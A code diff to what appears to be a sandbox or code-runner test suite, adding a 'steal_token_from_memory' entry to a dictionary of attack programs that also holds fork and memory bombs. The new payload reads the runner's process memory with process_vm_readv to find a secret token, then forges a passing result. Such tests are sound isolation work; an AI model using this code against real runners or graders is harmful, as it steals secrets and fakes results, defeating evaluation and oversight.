@@ -211,6 +211,42 @@ NATIVE = (
     ".stdout\nexcept Exception:\n    out = b''\n"
 )
 
+# A fresh interpreter reads the runner's memory (process_vm_readv, as ptrace would) for the run's token: a
+# 32-hex-digit bytes object near one of the program's own objects. It then forges the result channel.
+STEAL_TOKEN = """import os, sys, subprocess, marshal
+anchor = bytes(range(40))
+lo, hi = id(anchor) - (48 << 20), id(anchor) + (48 << 20)
+code = r'''
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+class iov(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+lo, hi, btype = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
+buf = ctypes.create_string_buffer(1 << 16)
+found = []
+a = lo & ~0xFFFF
+while a < hi:
+    l = iov(ctypes.addressof(buf), 1 << 16); r = iov(a, 1 << 16)
+    n = libc.process_vm_readv(1, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)
+    if n > 0:
+        data = buf.raw[:n]
+        i = data.find(struct.pack("<Q", btype))
+        while i != -1:
+            if i + 8 + 8 + 8 + 33 <= len(data):
+                size = struct.unpack_from("<q", data, i + 8)[0]
+                body = data[i + 24: i + 24 + 32]
+                if size == 32 and all(c in b"0123456789abcdef" for c in body):
+                    found.append(body)
+            i = data.find(struct.pack("<Q", btype), i + 8)
+    a += 1 << 16
+sys.stdout.write("\\n".join(x.decode() for x in found))
+'''
+out = subprocess.run([sys.executable, "-I", "-S", "-c", code, str(lo), str(hi), str(id(bytes))], capture_output=True, timeout=0.8).stdout.split()
+if out:
+    os.write(3, out[0] + b"\\n" + marshal.dumps(("ok", "", (1, 1), 0, ())))
+    os._exit(0)
+"""
+
 ATTACKS = {
     "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
     "memory_bomb": "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 24))",
@@ -316,6 +352,7 @@ ATTACKS = {
     )
     + "LEAKED = b'LEAK' in out"
     + LEAK,
+    "steal_token_from_memory": STEAL_TOKEN + WRONG,
     "unix_socket_connect": NATIVE.format(
         code="import socket\ns = socket.socket(socket.AF_UNIX)\nprint('LEAK')\ns.connect('{unix_path}')\n"
     )
